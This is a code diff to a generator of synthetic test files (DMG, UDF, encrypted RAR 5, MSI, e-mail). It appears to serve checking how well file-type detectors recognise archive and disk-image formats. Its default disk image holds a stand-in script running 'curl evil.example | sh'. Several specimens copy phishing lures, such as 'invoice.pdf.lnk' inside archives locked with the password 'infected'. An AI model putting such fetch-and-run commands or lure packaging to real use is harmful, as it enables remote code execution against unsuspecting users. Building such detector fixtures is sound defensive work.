@@ -210,17 +210,49 @@ def append_to_image(kind: str, payload: bytes) -> bytes:
     return out.getvalue() + payload
 
 
-def make_dmg(payload: bytes = bytes(range(256)) * 64) -> bytes:
-    """An Apple disk image's shape: zlib-compressed blocks, the XML property list, the 512-byte
-    `koly` trailer. libmagic sees only "zlib compressed data"; magika knows it."""
+def make_dmg(volume: bytes | None = None, compress: bool = True, chunk_sectors: int = 2048) -> bytes:
+    """An Apple UDIF disk image (.dmg) of the disk `volume` (default: a FAT volume with one file),
+    written by hand from the UDIF layout: the data fork as zlib-compressed (UDZO) or raw (UDRO)
+    chunks, the XML property list whose `blkx` entry holds the base64 `mish` block table, and
+    the 512-byte `koly` trailer. libmagic sees only "zlib compressed data"; magika knows it."""
+    import base64
     import zlib
 
-    plist = (b'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN">\n'
-             b'<plist version="1.0"><dict><key>resource-fork</key><dict><key>blkx</key><array><dict>'
-             b'<key>Data</key><data>bWlzaA==</data></dict></array></dict></dict></plist>\n')
-    body = zlib.compress(payload)
-    koly = b"koly" + struct.pack(">IIIQQQQQ", 4, 512, 1, 0, 0, len(body), len(body), len(plist))
-    return body + plist + koly.ljust(512, b"\0")
+    if volume is None:
+        volume = make_fat({"Install.app/run.command": b"#!/bin/sh\ncurl evil.example | sh\n"})
+    volume = volume.ljust(-(-len(volume) // 512) * 512, b"\0")
+    sectors = len(volume) // 512
+    data, chunks = b"", []
+    for first in range(0, sectors, chunk_sectors):
+        raw = volume[first * 512:(first + chunk_sectors) * 512]
+        packed = zlib.compress(raw) if compress else raw
+        chunks.append(struct.pack(">IIQQQQ", 0x80000005 if compress else 1, 0, first, len(raw) // 512, len(data), len(packed)))
+        data += packed
+    chunks.append(struct.pack(">IIQQQQ", 0xFFFFFFFF, 0, sectors, 0, len(data), 0))  # the terminator
+    mish = (struct.pack(">4sIQQQII", b"mish", 1, 0, sectors, 0, 0, 0) + bytes(24) + struct.pack(">II", 2, 32) + bytes(128)
+            + struct.pack(">I", len(chunks)) + b"".join(chunks))
+    name = "disk image (DOS_FAT_12 : 1)"
+    plist = ('<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" '
+             '"http://www.apple.com/DTDs/PropertyList-1.0.dtd">\n<plist version="1.0"><dict><key>resource-fork</key>'
+             '<dict><key>blkx</key><array><dict><key>Attributes</key><string>0x0050</string>'
+             f'<key>CFName</key><string>{name}</string><key>Data</key><data>{base64.b64encode(mish).decode()}</data>'
+             f'<key>ID</key><string>0</string><key>Name</key><string>{name}</string></dict></array></dict></dict></plist>\n').encode()
+    koly = struct.pack(">4sIIIQQQQQII16sII128sQQ120sII128sIQ12s", b"koly", 4, 512, 1, 0, 0, len(data), 0, 0, 1, 1, bytes(16),
+                       0, 0, bytes(128), len(data), len(plist), bytes(120), 0, 0, bytes(128), 1, sectors, bytes(12))
+    return data + plist + koly
+
+
+def make_udf(files: dict[str, bytes]) -> bytes:
+    """A UDF-only image (no ISO 9660 side, as Windows mounts them): pycdlib writes a UDF bridge
+    image, whose ISO 9660 descriptors are then replaced by the UDF volume recognition sequence
+    (BEA01, NSR02, TEA01) moved up to 32 KiB, where a reader looks first."""
+    image = bytearray(make_iso(files, joliet=False, udf=True))
+    sector = 2048
+    first = next(index for index in range(16, 32) if image[index * sector + 1:index * sector + 6] == b"BEA01")
+    sequence = image[first * sector:(first + 3) * sector]
+    image[16 * sector:first * sector + 3 * sector] = bytes((first - 16 + 3) * sector)
+    image[16 * sector:19 * sector] = sequence
+    return bytes(image)
 
 
 @dataclass(frozen=True)
@@ -266,11 +298,17 @@ def specimens() -> list[Specimen]:
         Specimen("CAB (MSZIP)", "update.cab", cab, "archive/cab", True),
         Specimen("RAR 4 (stored)", "invoice.rar", make_rar4_stored({"invoice.pdf.lnk": b"L\0\0\0 lnk"}), "archive/rar", True),
         Specimen("RAR 5 (stored)", "invoice5.rar", make_rar5_stored({"invoice.pdf.lnk": b"L\0\0\0 lnk"}), "archive/rar", True),
+        Specimen("RAR 5 (AES-256, password 'infected')", "locked.rar",
+                 make_rar5_stored({"invoice.pdf.lnk": b"L\0\0\0 lnk"}, password="infected"), "archive/rar", True),
+        Specimen("RAR 5 (encrypted headers)", "locked-names.rar",
+                 make_rar5_stored({"invoice.pdf.lnk": b"L\0\0\0 lnk"}, password="infected", encrypt_headers=True),
+                 "archive/rar", True),
         Specimen("MSI", "setup.msi", make_msi(cab, {"CustomAction": b"MZ dll"}), "document/installer/windows", True),
         Specimen("cpio", "initrd.cpio", make_cpio([("bin/sh", b"#!/bin/sh\n", 0o100755)]), "archive/cpio", True),
         Specimen(".deb", "helper.deb", make_deb({"./usr/bin/helper": b"#!/bin/sh\n"}), "archive/deb", True),
         Specimen("ar", "lib.a", libarchive_write("ar_svr4", [("a.o", b"\x7fELF object")]), "archive/ar", True),
-        Specimen("DMG", "app.dmg", make_dmg(), "archive/dmg", False),
+        Specimen("DMG (UDZO, FAT)", "app.dmg", make_dmg(), "archive/dmg", True),
+        Specimen("UDF image (no ISO 9660)", "disk.img", make_udf({"invoice.pdf.lnk": b"L\0\0\0 lnk"}), "archive/udf", True),
         Specimen("e-mail (.eml)", "invoice.eml", eml, "text/email", True),
         Specimen("Outlook (.msg)", "invoice.msg", make_msg("From: a@evil.example\nSubject: x\n", "see", "<p>x</p>",
                                                             {"a.lnk": b"L\0\0\0"}), "document/office/email", True),
@@ -437,17 +475,73 @@ def _rar5_block(fields: bytes, data: bytes = b"") -> bytes:
     return struct.pack("<I", zlib.crc32(header)) + header + data
 
 
-def make_rar5_stored(files: dict[str, bytes]) -> bytes:
+def make_rar5_stored(files: dict[str, bytes], password: str | None = None, encrypt_headers: bool = False,
+                     kdf_log2: int = 15) -> bytes:
     """A RAR 5 archive of stored members, written by hand from the RAR 5 format description: the
-    signature, the main header, a file header (+ data) per member, the end of archive."""
+    signature, the main header, a file header (+ data) per member, the end of archive.
+
+    With `password` each member's data is AES-256-CBC encrypted under a file encryption record
+    (PBKDF2-HMAC-SHA256 key, 2**kdf_log2 rounds, with the password check value); with
+    `encrypt_headers` too (`rar -hp`) an archive encryption header follows the signature and
+    every later header is encrypted, so even the member names need the password."""
+    import os
     import zlib
 
-    out = b"Rar!\x1a\x07\x01\x00" + _rar5_block(_vint(1) + _vint(0) + _vint(0))
+    from Cryptodome.Cipher import AES
+
+    def encrypt(key: bytes, iv: bytes, plain: bytes) -> bytes:
+        return AES.new(key, AES.MODE_CBC, iv).encrypt(plain + bytes(-len(plain) % 16))
+
+    head_key = None
+    out = b"Rar!\x1a\x07\x01\x00"
+    if password is not None and encrypt_headers:
+        salt = os.urandom(16)
+        head_key, check = _rar5_keys(password, salt, kdf_log2)
+        out += _rar5_block(_vint(4) + _vint(0) + _vint(0) + _vint(0x0001) + bytes([kdf_log2]) + salt + check)
+
+    def block(fields: bytes, data: bytes = b"") -> bytes:
+        if head_key is None:
+            return _rar5_block(fields, data)
+        iv = os.urandom(16)
+        return iv + encrypt(head_key, iv, _rar5_block(fields)) + data
+
+    out += block(_vint(1) + _vint(0) + _vint(0))
     for name, data in files.items():
         encoded = name.encode()
-        fields = (_vint(2) + _vint(0x0002) + _vint(len(data))  # type: file; flags: data area present; its size
+        extra = b""
+        stored = data
+        if password is not None:
+            salt, iv = os.urandom(16), os.urandom(16)
+            key, check = _rar5_keys(password, salt, kdf_log2)
+            record = _vint(1) + _vint(0) + _vint(0x0001) + bytes([kdf_log2]) + salt + iv + check
+            extra = _vint(len(record)) + record  # file encryption record: AES-256, password check present
+            stored = encrypt(key, iv, data)
+        fields = (_vint(2) + _vint(0x0002 | (0x0001 if extra else 0))  # type: file; flags: data area (+ extra area)
+                  + (_vint(len(extra)) if extra else b"") + _vint(len(stored))
                   + _vint(0x0004) + _vint(len(data)) + _vint(0x20)  # file flags: CRC32 present; size; attributes
                   + struct.pack("<I", zlib.crc32(data)) + _vint(0) + _vint(0)  # CRC32; stored, version 0; host: Windows
-                  + _vint(len(encoded)) + encoded)
-        out += _rar5_block(fields, data)
-    return out + _rar5_block(_vint(5) + _vint(0) + _vint(0))
+                  + _vint(len(encoded)) + encoded + extra)
+        out += block(fields, stored)
+    return out + block(_vint(5) + _vint(0) + _vint(0))
+
+
+def _rar5_keys(password: str, salt: bytes, kdf_log2: int) -> tuple[bytes, bytes]:
+    """RAR 5's AES key and 12-byte password check value: PBKDF2-HMAC-SHA256 over 2**kdf_log2
+    rounds gives the key; the same chain run 32 rounds further gives the check value (folded to
+    8 bytes, then 4 bytes of its SHA-256)."""
+    import hashlib
+    import hmac
+
+    secret = password.encode()
+    u = hmac.digest(secret, salt + b"\0\0\0\1", "sha256")
+    acc = int.from_bytes(u, "big")
+    values = []
+    for rounds in (2 ** kdf_log2 - 1, 16, 16):
+        for _ in range(rounds):
+            u = hmac.digest(secret, u, "sha256")
+            acc ^= int.from_bytes(u, "big")
+        values.append(acc.to_bytes(32, "big"))
+    check = bytearray(8)
+    for index, byte in enumerate(values[2]):
+        check[index % 8] ^= byte
+    return values[0], bytes(check) + hashlib.sha256(check).digest()[:4]
